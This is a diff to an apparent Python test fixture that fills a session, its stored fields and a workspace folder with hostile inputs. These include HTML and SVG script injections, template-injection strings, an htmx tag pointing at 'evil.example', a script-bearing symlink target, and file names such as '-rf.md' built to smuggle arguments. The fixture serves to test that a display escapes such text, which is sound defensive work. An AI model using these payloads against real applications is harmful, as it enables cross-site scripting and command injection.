@@ -1,6 +1,8 @@
 """A session in which every text that can be stored attacks whoever looks at it."""
 
+import os
 import typing
+from pathlib import Path
 from typing import Any
 
 import msgspec
@@ -26,6 +28,7 @@ CONTROLS = (
 TEMPLATE = "{{ 7*7 }} {% include 'x' %} ${7*7} #{7*7}"
 HX = '<div hx-get="https://evil.example" hx-trigger="load" hx-on:click="window.hacked=1"></div>'
 EVIL = f"{HTML}{SVG}{CONTROLS}{TEMPLATE}{HX}"
+DEEP = tuple(text.replace("/", "\u2044") for text in (SVG[:200], HTML[:80], CONTROLS[:60]))
 LONG_WORD = "w" * 4_000
 LONG_LINE = "0123456789" * 1_000_000
 
@@ -63,7 +66,27 @@ def hostile_session(context: Context) -> Session:
     call(context, "access_grant", {"who": "team:<b>x</b>", "role": "viewer", "project": f"{SVG[:100]}"})
     add(context, session, *every_kind())
     _acted_on(context, session)
+    _kept(context, session)
     return session
+
+
+def _kept(context: Context, session: Session) -> None:
+    """Files whose names and contents attack, in two snapshots and in a fork."""
+    folder = Path(f"{context.home}-hostile files")
+    below = folder.joinpath(*DEEP)
+    below.mkdir(parents=True)
+    for name in ("a.html", "{{ 7*7 }}.py", "-rf.md"):
+        (below / name).write_text(EVIL + LINKS)
+    (folder / os.fsdecode(b"caf\xe9\xff.png")).write_text(SVG)
+    (folder / "x.svg").write_text(SVG)
+    (folder / "long.js").write_text(f"{LONG_LINE}\n")
+    (folder / "line.js").write_text("<b>" + "0123456789" * 60_000)
+    (folder / "mixed.txt").write_bytes(b"caf\xe9 \xff\xfe" + EVIL.encode())
+    (folder / "to").symlink_to("/<script>window.hacked=1<")
+    call(context, "workspace_snapshot", {"session": session.id, "folder": str(folder), "label": EVIL[:400]})
+    (below / "a.html").write_text(HTML)
+    (folder / "line.js").unlink()
+    call(context, "workspace_snapshot", {"session": session.id, "folder": str(folder), "label": f"second {HTML[:90]}"})
 
 
 def every_kind() -> list[e.Body]:
